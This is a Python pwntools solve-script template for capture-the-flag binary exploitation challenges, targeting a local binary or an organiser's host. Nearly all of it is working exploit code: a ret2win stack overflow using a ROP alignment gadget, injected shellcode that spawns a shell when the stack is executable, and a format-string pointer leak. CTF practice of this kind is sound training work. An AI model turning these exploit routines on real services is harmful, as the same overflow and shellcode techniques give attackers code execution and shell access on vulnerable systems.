#!/usr/bin/env python3
# Solve-script template for CTF pwn challenges (pwntools).
# Usage: python3 solve.py            # local
#        python3 solve.py REMOTE     # organiser's challenge host
from pwn import *

exe = context.binary = ELF("./chall", checksec=False)
context.log_level = "info"

HOST = args.HOST or "chall.ctf.example"
PORT = int(args.PORT or 31337)
OFFSET = int(args.OFFSET or 40)


def conn():
    if args.REMOTE:
        return remote(HOST, PORT)
    return process(exe.path)


def ret2win(io):
    win = exe.symbols.get("win") or exe.symbols.get("print_flag")
    ret = ROP(exe).find_gadget(["ret"])[0]   # 16-byte stack alignment
    io.sendline(flat({OFFSET: [ret, win]}))


def stack_shellcode(io, buf_addr):
    sc = asm(shellcraft.sh())
    io.sendline(flat({0: sc, OFFSET: buf_addr}))


def fmt_leak(io, idx):
    io.sendline(f"%{idx}$p".encode())
    return int(io.recvline().strip(), 16)


def main():
    io = conn()
    io.recvuntil(b"> ")
    if "win" in exe.symbols or "print_flag" in exe.symbols:
        ret2win(io)
        print(io.recvall(timeout=3).decode(errors="replace"))
        return
    if not exe.nx:
        io.recvuntil(b"buffer at ")
        buf = int(io.recvline().strip(), 16)
        stack_shellcode(io, buf)
        io.sendline(b"cat flag.txt")
        io.interactive()
        return
    log.warning("no easy path: leak libc (puts@got) and adapt the template")


if __name__ == "__main__":
    main()
